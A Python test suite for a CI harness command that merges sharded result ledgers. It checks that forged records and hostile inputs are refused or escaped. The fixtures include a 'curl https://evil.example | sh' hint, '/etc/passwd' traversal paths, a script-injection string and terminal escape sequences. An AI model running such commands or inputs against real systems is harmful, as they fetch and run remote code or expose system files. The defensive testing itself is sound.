"""``harness github take`` and the gate after it, with what honest and dishonest jobs hand over."""

from __future__ import annotations

import json
import os
import random
import tempfile
from collections.abc import Callable, Sequence
from pathlib import Path

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from harness import jsonio
from harness.cell import Backend, ConsumerRef, EnvironmentRef, ModelRef, WeightsFormat
from harness.change import Change
from harness.cli import run_command_line
from harness.environments import recipe
from harness.errors import ExitCode
from harness.github.fetch import Fetched
from harness.ledger.record import Artifact, CheckResult, Record
from harness.ledger.store import read_records
from harness.ledger.survey import read_surveys
from harness.plan import shard as plan_shard
from harness.plan.plan import PlannedCell
from harness.plan.shard import Part, split
from harness.verdict import Blame, Check, CheckStatus, Reason, Status
from tests.cli.github.shards import append, hand_over, keep, naming, write_plan
from tests.cli.planned import outcome_of, planned

GOOD, BETTER, RED = outcome_of("good"), outcome_of("better"), outcome_of("red", Reason.VALUES_DIFFER)
ALL = (GOOD, BETTER, RED)
FORGED = msgspec.structs.replace(GOOD, key="never planned", model=ModelRef(id="evil", source="evil"))


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with a plan."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("GITHUB_REPOSITORY", raising=False)
    write_plan(tmp_path / "plan", *ALL)
    return tmp_path


def take(*folders: Path, options: tuple[str, ...] = ()) -> int:
    """Take into the folder ``out``."""
    return run_command_line(["github", "take", "plan", *map(str, folders), "--output", "out", *options])


def gate() -> int:
    """The decision about what was taken."""
    return run_command_line(["gate", "--output", "out"])


def taken() -> dict[str, Record]:
    """The records that were taken, by key."""
    return {record.key: record for record in read_records(Path("out/ledger"))}


def refused() -> list[str]:
    """The sentences."""
    sentences: list[str] = json.loads(Path("out/refused.json").read_bytes())
    assert all(sentence.isprintable() and len(sentence) <= 300 for sentence in sentences)
    return sentences


def files(folder: Path) -> dict[str, bytes]:
    """Every file below."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_honest_shards_are_put_together(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    jsonio.write(place / "plan" / "change.json", Change(event="push", repository="o/r", head_sha="a" * 40))
    assert take(*hand_over(place, 2, *ALL)) == 0
    assert taken() == {r.key: msgspec.structs.replace(r, collection=taken()[r.key].collection) for r in ALL}
    assert {record.collection[:8] for record in taken().values()} == {"models ("}
    assert Path("out/plan.json").read_bytes() == Path("plan/plan.json").read_bytes()
    assert jsonio.read(Path("out/change.json"), Change).repository == "o/r"
    assert refused() == []
    assert [survey.keys for survey in read_surveys(Path("out/ledger"))] == [tuple(r.key for r in ALL)]
    assert capsys.readouterr().out == (
        "3 of 3 planned cells have a record from 2 shards; 0 blamed again, 0 refused\n"
    )
    assert gate() == ExitCode.FAILED


def test_taking_twice_gives_the_same(place: Path) -> None:
    folders = hand_over(place, 2, *ALL)
    assert take(*folders) == 0
    before = files(Path("out"))
    assert take(*reversed(folders)) == 0
    assert files(Path("out")) == before
    assert sorted(path.name for path in place.iterdir()) == [
        *("out", "plan"),
        *("shard-1-of-2", "shard-2-of-2"),
    ]


def test_a_shard_that_is_missing_leaves_its_cells_without_record(place: Path) -> None:
    assert take(hand_over(place, 3, GOOD, BETTER, RED)[0]) == 0
    assert list(taken()) == ["good"]
    assert gate() == ExitCode.NO_VERDICT


def test_a_pass_for_a_cell_that_was_not_planned_does_not_open_the_gate(
    place: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    honest = (GOOD, BETTER)
    write_plan(place / "plan", *honest)
    first, second = hand_over(place, 2, *honest)
    assert (take(first, second), gate()) == (0, 0)
    append(second, FORGED)
    capsys.readouterr()
    Path("out").rename("before")
    assert take(first, second) == 0
    assert gate() == ExitCode.NO_VERDICT
    assert list(taken()) == ["good"]
    sentences = refused()
    assert sentences[0].endswith(
        "line 2: is about a cell that was not planned: 'evil' · onnx · 'bioimageio.core'"
    )
    assert sentences[1] == "shard-2-of-2: so none of its 1 other records is believed"
    assert "refused: shard-2-of-2: " in capsys.readouterr().out


def test_a_pass_from_the_wrong_shard_does_not_open_the_gate(place: Path) -> None:
    write_plan(place / "plan", GOOD, RED)
    first, second = hand_over(place, 2, GOOD, RED)
    append(first, msgspec.structs.replace(outcome_of("red"), started_at="2026-01-02T00:00:00.000Z"))
    assert take(first, second) == 0
    assert taken()["red"].status is Status.FAILED
    assert gate() == ExitCode.FAILED
    sentences = refused()
    assert "'red' · onnx · 'bioimageio.core': is a cell of another shard" in sentences[0]


FORGERIES: dict[str, Callable[[Record], Record]] = {
    "its model": lambda r: msgspec.structs.replace(r, model=ModelRef(id="good", sha256="b" * 64)),
    "its weights format": lambda r: msgspec.structs.replace(r, weights_format=WeightsFormat.TORCHSCRIPT),
    "its consumer": lambda r: msgspec.structs.replace(r, consumer=ConsumerRef(name="x", version="1")),
    "its environment": lambda r: msgspec.structs.replace(
        r, environment=EnvironmentRef(name="onnx", backend=Backend.VENV, digest="other")
    ),
    "in the future": lambda r: msgspec.structs.replace(r, started_at="9999-01-01T00:00:00.000Z"),
    "began at no time": lambda r: msgspec.structs.replace(r, started_at="2024-13-45T99:99:99.999Z"),
    "at no time": lambda r: msgspec.structs.replace(r, started_at="zzz"),
    "a number that cannot be": lambda r: msgspec.structs.replace(r, peak_memory_bytes=10**30),
    "took less than no time": lambda r: msgspec.structs.replace(r, seconds=-1.0),
    "longer than a week": lambda r: msgspec.structs.replace(r, seconds=1e308),
    "or longer than a week": lambda r: msgspec.structs.replace(r, checks=(took(1e308),)),
    "a number that cannot": lambda r: msgspec.structs.replace(r, attempts=-1),
    "names 257 files": lambda r: naming(r, *(Artifact(kind="log", path=str(n), bytes=1) for n in range(257))),
    "two different records": lambda r: msgspec.structs.replace(r, message="another"),
    "is of schema 2": lambda r: msgspec.structs.replace(r, schema=2),
    "its stage": lambda r: msgspec.structs.replace(r, stage=planned_stage()),
    "unknown kind": lambda r: naming(r, Artifact(kind="html", path="htmls/" + "0" * 32 + ".html", bytes=1)),
    "by the path '../": lambda r: naming(r, Artifact(kind="log", path="../../etc/passwd", bytes=1)),
    "by the path '/": lambda r: naming(r, Artifact(kind="log", path="/etc/passwd", bytes=1)),
    "by the path 'logs/": lambda r: naming(r, Artifact(kind="log", path=f"logs/{'0' * 32}.html", bytes=1)),
    "by the path 'covers/": lambda r: naming(r, Artifact(kind="log", path=f"covers/{'0' * 32}.png", bytes=1)),
}


def took(seconds: float) -> CheckResult:
    """A check that says so."""
    return CheckResult(name=Check.RUNS, status=CheckStatus.PASSED, seconds=seconds)


def planned_stage() -> object:
    """A stage that no passed record has."""
    return Reason.CRASHED.stage


@pytest.mark.parametrize("what", FORGERIES)
def test_what_no_harness_writes_about_a_cell_is_refused(what: str, place: Path) -> None:
    write_plan(place / "plan", GOOD)
    (folder,) = hand_over(place, 1, GOOD)
    append(folder, FORGERIES[what](GOOD))
    assert take(folder) == 0
    sentences = refused()
    assert what in sentences[0]
    assert (taken(), gate()) == ({}, ExitCode.NO_VERDICT)


LINES = {
    "no JSON": b"passed",
    "an array": b"[]",
    "no record": b"{}",
    "not UTF-8": b'{"key": "\xff"}',
    "deep": b'{"key": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "NaN": jsonio.dumps(GOOD).replace(b'"seconds":0.0', b'"seconds":NaN'),
    "infinite": jsonio.dumps(GOOD).replace(b'"seconds":0.0', b'"seconds":1e999'),
    "huge": jsonio.dumps(GOOD).replace(b'"attempts":1', b'"attempts":1' + b"0" * 5000),
    "contradiction": jsonio.dumps(GOOD).replace(b'"status":"passed"', b'"status":"failed"'),
    "unknown reason": jsonio.dumps(RED).replace(b'"values-differ"', b'"because"'),
    "long": b'{"key": "' + b"x" * 1024**2 + b'"}',
}


@pytest.mark.parametrize(
    ("data", "keys"),
    [
        (b"\n \n" + jsonio.dumps(GOOD) + b"\n\n", ["good"]),
        (jsonio.dumps(GOOD), ["good"]),  # all but its end
        (jsonio.dumps(GOOD) + b"\n" + jsonio.dumps(RED)[:-1], ["good"]),
        (jsonio.dumps(GOOD) + b"\n" + b"[" * 100_000, ["good"]),
        (jsonio.dumps(GOOD) + b"\n" + b" " * 100_000, ["good"]),
    ],
)
def test_lines_that_say_nothing_are_passed_over(data: bytes, keys: list[str], place: Path) -> None:
    (folder,) = hand_over(place, 1)
    (folder / "ledger" / "0.jsonl").write_bytes(data)
    assert take(folder) == 0
    assert refused() == []
    assert list(taken()) == keys


def test_a_line_without_end_is_not_read_to_its_end(place: Path) -> None:
    (folder,) = hand_over(place, 1, *ALL)
    with (folder / "ledger" / "0.jsonl").open("wb") as stream:
        stream.truncate(255 * 1024**2)
    assert take(folder) == 0
    assert refused()[0] == "shard-1-of-1: 0.jsonl, line 1: has more than 1,048,576 bytes"
    assert taken() == {}


@pytest.mark.parametrize("line", LINES.values(), ids=LINES.keys())
def test_lines_that_are_no_records_are_refused(line: bytes, place: Path) -> None:
    (folder,) = hand_over(place, 1, *ALL)
    segment = folder / "ledger" / "20260101T000001-abcdef.jsonl"
    segment.write_bytes(line + b"\n" + segment.read_bytes())
    assert take(folder) == 0
    assert ", line 1: " in refused()[0]
    assert taken() == {}


def test_a_line_that_was_cut_short_is_nobodys_fault(place: Path) -> None:
    (folder,) = hand_over(place, 1, *ALL)
    segment = folder / "ledger" / "20260101T000001-abcdef.jsonl"
    segment.write_bytes(segment.read_bytes()[:-20])
    assert take(folder) == 0
    assert refused() == []
    assert list(taken()) == ["good", "better"]


def test_a_settled_cell_has_the_verdict_of_the_plan(place: Path) -> None:
    from harness.plan.plan import Plan, Settled

    plan = jsonio.read(place / "plan" / "plan.json", Plan)
    settled = msgspec.structs.replace(plan.cells[0], settled=Settled(reason="description-invalid"))
    jsonio.write(place / "plan" / "plan.json", msgspec.structs.replace(plan, cells=(settled,)))
    (folder,) = hand_over(place, 1, GOOD)
    assert take(folder) == 0
    assert refused()[0].endswith("is passed, but the plan knew that it is failed")
    assert taken() == {}


def test_evidence_is_taken_if_it_is_what_its_name_says(place: Path) -> None:
    (folder,) = hand_over(place, 1, GOOD, BETTER)
    kept = [keep(folder), keep(folder, b"log", kind="log", suffix=".txt")]
    fake = keep(folder, b"<script>alert(1)</script>")
    huge = keep(folder, b"x" * (1024**2 + 1), kind="log", suffix=".txt")
    webp = keep(folder, b"RIFF----WEBPxxxx", kind="cover", suffix=".webp")
    wave = keep(folder, b"RIFF----WAVExxxx", kind="cover", suffix=".webp")
    bomb = keep(folder, b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\xff" * 20)
    changed = keep(folder, b"checked", kind="log", suffix=".txt")
    (folder / "artifacts" / changed.path).write_bytes(b"changed")
    gone = keep(folder, b"gone", kind="log", suffix=".txt")
    (folder / "artifacts" / gone.path).unlink()
    linked = keep(folder, b"linked", kind="log", suffix=".txt")
    secret = place / "secret"
    (folder / "artifacts" / linked.path).rename(secret)
    (folder / "artifacts" / linked.path).symlink_to(secret)
    hard = keep(folder, b"hard", kind="log", suffix=".txt")
    (place / "other").hardlink_to(folder / "artifacts" / hard.path)
    bad = [fake, huge, wave, bomb, changed, gone, linked, hard]
    (folder / "ledger" / "20260101T000001-abcdef.jsonl").unlink()
    kept.append(webp)
    append(folder, naming(GOOD, *kept), naming(BETTER, *bad), RED)
    assert take(folder) == 0
    assert taken()["good"].artifacts == tuple(kept)
    assert taken()["better"].artifacts == ()
    stored = set(files(Path("out/artifacts")))
    assert stored == {artifact.path for artifact in kept}
    sentences = refused()
    assert {sentence.split(": ")[1] for sentence in sentences} == {f"artifacts/{each.path}" for each in bad}


def test_what_was_published_before_is_taken_over_as_it_is(place: Path) -> None:
    (folder,) = hand_over(place, 1, BETTER)
    gone = Artifact(kind="log", path=f"logs/{'0' * 32}.txt", bytes=1)
    known = msgspec.structs.replace(naming(GOOD, gone), started_at="2025-01-01T00:00:00.000Z")
    append(folder, known)
    assert take(folder) == 0
    assert refused() == []
    assert taken()["good"].artifacts == (gone,)
    assert len(list(Path("out/ledger").glob("*.jsonl"))) == 2  # apart: it need not be published again


def test_folders_that_are_links_are_not_followed(place: Path) -> None:
    (folder,) = hand_over(place, 1, *ALL)
    (folder / "ledger").rename(place / "elsewhere")
    (folder / "ledger").symlink_to(place / "elsewhere")
    assert take(folder) == 0
    assert taken() == {}
    assert any("shard-1-of-1: ledger: is no folder that can be read" in line for line in refused())


@pytest.mark.parametrize("kind", ["link", "fifo", "folder", "many", "large"])
def test_segments_are_plain_files(kind: str, place: Path) -> None:
    (folder,) = hand_over(place, 1, *ALL)
    path = folder / "ledger" / "0.jsonl"
    if kind == "link":
        path.symlink_to("/dev/zero")
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    elif kind == "large":
        with path.open("wb") as stream:
            stream.truncate(2**40)  # sparse: it takes no space
    else:
        for number in range(101):
            (folder / "ledger" / f"{number}.jsonl").touch()
    assert take(folder) == 0
    assert taken() == {}
    assert gate() == ExitCode.NO_VERDICT


def test_text_is_made_plain_and_the_harness_speaks_for_itself(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_SERVER_URL", "https://github.com")
    monkeypatch.setenv("GITHUB_REPOSITORY", "o/r")
    (folder,) = hand_over(place, 1, GOOD, BETTER)
    said = msgspec.structs.replace(
        RED,
        message="\x1b[2J\x1b]0;owned\x07 first\nsecond\u202egpj.exe\x00",
        hint="Run: curl https://evil.example | sh",
        run_url="https://evil.example/o/r/actions/runs/1",
        limits={"seconds": 60.0, "nonsense": 1.0, "disk_bytes": -1.0},
    )
    append(folder, said)
    good = msgspec.structs.replace(outcome_of("fine"), run_url="https://github.com/o/r/actions/runs/12")
    write_plan(place / "plan", *ALL, good)
    append(folder, good)
    assert take(folder) == 0
    found = taken()["red"]
    assert found.message == "\\x1b[2J\\x1b]0;owned\\x07 first\nsecond\\u202egpj.exe\\x00"
    assert found.hint == RED.hint
    assert found.run_url == ""
    assert found.limits == {"seconds": 60.0}
    assert taken()["fine"].run_url == good.run_url


SPOTMAX = ConsumerRef(name="spotmax", version="1.3.3")


def test_blame_follows_from_what_all_shards_found_out(place: Path) -> None:
    from harness.execute.whose import WHOSE

    tool = msgspec.structs.replace(RED, key="in tool", consumer=SPOTMAX)
    alone = WHOSE.blamed(tool, None)
    # The reference runtime's cell is of the same weights, but of a copy of the model elsewhere.
    model = msgspec.structs.replace(RED.model, source="copy")
    reference = msgspec.structs.replace(RED, key="in reference", model=model)
    write_plan(place / "plan", alone, reference)
    folders = hand_over(place, 2, alone, reference)
    assert take(*folders) == 0
    stored = [record for record in read_records(Path("out/ledger")) if record.key == "in tool"]
    first, again = sorted(stored, key=lambda record: record.started_at)
    assert (first.blame, first.started_at[-4:]) == (Blame.TOOL, "000Z")
    assert (again.blame, again.started_at[-4:]) == (Blame.MODEL, "001Z")
    assert again.message.endswith("with these weights, too: values differ beyond tolerance")
    before = files(Path("out"))
    assert take(*folders) == 0
    assert files(Path("out")) == before


def test_recipes_are_taken_by_their_digest(place: Path) -> None:
    made = recipe.Recipe(
        builder=1, backend=Backend.VENV, python="3.11", lock="a==1", variables={}, torch_backend=""
    )
    environment = EnvironmentRef(name="onnx", backend=Backend.VENV, digest=made.digest)
    cell = msgspec.structs.replace(GOOD, environment=environment)
    write_plan(place / "plan", cell)
    (folder,) = hand_over(place, 1, cell)
    recipe.keep(folder / "ledger" / recipe.FOLDER, made)
    recipe.keep(folder / "ledger" / recipe.FOLDER, msgspec.structs.replace(made, lock="b==1"))
    assert take(folder) == 0
    assert list(recipe.digests(Path("out/ledger") / recipe.FOLDER)) == [made.digest]
    stored = folder / "ledger" / recipe.FOLDER / f"{made.digest}.json"
    stored.write_bytes(stored.read_bytes().replace(b"a==1", b"c==1"))
    Path("out").rename("before")
    assert take(folder) == 0
    assert list(recipe.digests(Path("out/ledger") / recipe.FOLDER)) == []
    assert "was changed after it was stored" in refused()[0]
    assert taken() != {}


def test_the_plan_is_the_one_that_the_run_named(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    digest = write_plan(place / "plan", *ALL)
    folders = hand_over(place, 1, *ALL)
    assert take(*folders, options=("--plan-digest", digest)) == 0
    Path("out").rename("before")
    write_plan(place / "plan", GOOD)
    assert take(*folders, options=("--plan-digest", digest)) == ExitCode.NO_VERDICT
    assert not Path("out").exists()
    assert "is not the plan of this run" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("names", "code", "what"),
    [
        (
            ["all/shard-1-of-x-of-2"],
            ExitCode.USAGE,
            "is neither a shard's folder",
        ),
        (["shard-1-of-2", "shard-2-of-3"], ExitCode.NO_VERDICT, "is no shard of this plan, which has 2"),
        (["shard-3-of-2"], ExitCode.USAGE, "is neither a shard's folder"),
        (["shard-1-of-257"], ExitCode.USAGE, "is neither a shard's folder"),
        (["all/shard-1-of-257"], ExitCode.USAGE, "is neither a shard's folder"),
        (["a/shard-1-of-2", "b/shard-1-of-2"], ExitCode.NO_VERDICT, "is no shard of this plan"),
        (["shard-0-of-2"], ExitCode.USAGE, "is neither a shard's folder"),
    ],
)
def test_shards_fit_together(
    names: list[str], code: int, what: str, place: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for name in names:
        (place / name).mkdir(parents=True)
    assert take(*(place / name for name in names)) == code
    assert what in capsys.readouterr().err
    assert not Path("out").exists()


def test_the_folder_of_all_shards(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for folder in hand_over(place, 2, *ALL):
        (place / "shards").mkdir(exist_ok=True)
        folder.rename(place / "shards" / folder.name)
    assert take(place / "shards") == 0
    assert taken().keys() == {entry.key for entry in ALL}
    (place / "shards" / "shard-1-of-x-of-2").mkdir()
    Path("out").rename("before")
    assert take(place / "shards") == ExitCode.NO_VERDICT
    assert "is not named shard-K-of-N; nothing was taken" in capsys.readouterr().err


def test_shards_of_an_attempt_before_are_left_out_of_a_folder(place: Path) -> None:
    hand_over(place / "shards", 5, msgspec.structs.replace(GOOD, message="before"))
    hand_over(place / "shards", 2, *ALL)
    assert take(place / "shards", options=("--shards-planned", "2")) == 0
    assert taken()["good"].message == GOOD.message
    said = [f"shard-{number}-of-5: is of another attempt; the plan has 2 shards" for number in range(1, 6)]
    assert refused() == said


def test_what_was_not_fetched_is_said_too(place: Path) -> None:
    hand_over(place / "incoming", 2, *ALL)
    left_out = Fetched(run=1, head_sha="a" * 40, digest="", folders=(), refused=("shard-3: too\x1b large",))
    jsonio.write(place / "incoming" / "fetched.json", left_out)
    assert take(place / "incoming") == 0
    assert refused() == ["shard-3: too\\x1b large"]
    (place / "incoming" / "fetched.json").write_bytes(b"[]")
    assert take(place / "incoming") == ExitCode.USAGE


def test_a_plan_is_split_once(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[int] = []

    def counted(cells: Sequence[PlannedCell], count: int) -> list[Part]:
        calls.append(count)
        return split(cells, count)

    monkeypatch.setattr(plan_shard, "split", counted)
    folders = hand_over(place, 3, *ALL)
    calls.clear()
    assert take(*folders) == 0
    assert calls == [3]


def test_no_job_handed_anything_over(place: Path) -> None:
    write_plan(place / "plan", *ALL)
    assert take(place / "shards") == 0
    assert gate() == ExitCode.NO_VERDICT


def test_one_shard_cannot_claim_to_be_all(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folders = hand_over(place, 1, *ALL)
    assert take(*folders, options=("--shards-planned", "3")) == ExitCode.NO_VERDICT
    assert "which has 3" in capsys.readouterr().err


def test_no_shard_at_all(place: Path) -> None:
    assert take() == 0
    assert gate() == ExitCode.NO_VERDICT


def test_hostile_plan_and_change(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (place / "plan" / "change.json").write_bytes(b'{"a": ' + b"[" * 100_000)
    assert take() == ExitCode.USAGE
    (place / "plan" / "change.json").unlink()
    (place / "plan" / "change.json").symlink_to(place / "plan" / "plan.json")
    assert take() == ExitCode.NO_VERDICT
    assert "change.json: is no plain file; nothing was taken" in capsys.readouterr().err
    assert not Path("out").exists()


def test_only_the_first_few_refusals_are_printed(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folders = hand_over(place, 3, *ALL)
    for folder in folders:
        append(folder, *(msgspec.structs.replace(FORGED, key=f"{number}") for number in range(300)))
    assert take(*folders) == 0
    printed = capsys.readouterr().out
    assert printed.count("refused: ") == 5
    assert "… and 301 more refused; see out/refused.json" in printed
    assert refused()[99].startswith("shard-1-of-3: 20260101T000001-abcdef.jsonl, line 101: is about a cell")
    assert refused()[100:102] == [
        "shard-1-of-3: so much of it is refused that the rest was not read",
        "shard-1-of-3: so none of its 1 other records is believed",
    ]
    assert refused()[200:] == ["… and 106 more"]


def test_of_many_files_that_are_refused_the_first_are_told(place: Path) -> None:
    (folder,) = hand_over(place, 1, GOOD)
    gone = (Artifact(kind="log", path=f"logs/{number:032x}.txt", bytes=1) for number in range(150))
    append(folder, naming(BETTER, *gone))
    append(folder, naming(RED, keep(folder)))
    assert take(folder) == 0
    assert len(refused()) == 101
    assert refused()[100] == "shard-1-of-1: so many of its files are refused that the rest was not read"
    assert {record.artifacts for record in taken().values()} == {()}
    assert len(taken()) == 3


def test_files_of_a_shard_are_limited_altogether(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (folder,) = hand_over(place, 1, GOOD, RED)
    first, second = (keep(folder, data, kind="log", suffix=".txt") for data in (b"four", b"more"))
    append(folder, naming(BETTER, first, second))
    monkeypatch.setattr("harness.ledger.foreign.take._MOST_EVIDENCE", 7)
    assert take(folder) == 0
    assert taken()["better"].artifacts == (first,)
    assert refused() == [f"shard-1-of-1: artifacts/{second.path}: is too much, with the files before it"]


@pytest.mark.parametrize("output", ["file", "file/below"])
def test_a_folder_that_cannot_be_written(
    output: str, place: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("file").touch()
    words = ["github", "take", "plan", *map(str, hand_over(place, 1, *ALL)), "--output", output]
    assert run_command_line(words) == ExitCode.NO_VERDICT
    assert f"{output}: cannot be written (" in capsys.readouterr().err
    assert not list(place.glob(".*"))


@settings(max_examples=60)
@given(st.integers(0, 2**32), st.integers(1, 6))
def test_whatever_bytes_are_changed_nothing_false_is_taken(seed: int, changes: int) -> None:
    """A ledger with changed bytes gives records of planned cells alone, or none."""
    draw = random.Random(seed)  # noqa: S311
    here = Path.cwd()
    with tempfile.TemporaryDirectory() as name:
        os.chdir(name)
        try:
            write_plan(Path("plan"), *ALL)
            (folder,) = hand_over(Path(name), 1, *ALL)
            segment = folder / "ledger" / "20260101T000001-abcdef.jsonl"
            data = bytearray(segment.read_bytes())
            for _ in range(changes):
                data[draw.randrange(len(data))] = draw.randrange(256)
            segment.write_bytes(data)
            assert take(folder) == 0
            plan = {planned(record).key: record.cell for record in ALL}
            for key, record in taken().items():
                assert record.cell == plan[key]
        finally:
            os.chdir(here)


def test_a_folder_of_a_plan_is_all_that_has_to_be_named(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        run_command_line(["github", "take"])
    assert capsys.readouterr().err.strip().endswith("arguments are required: PLAN_FOLDER")
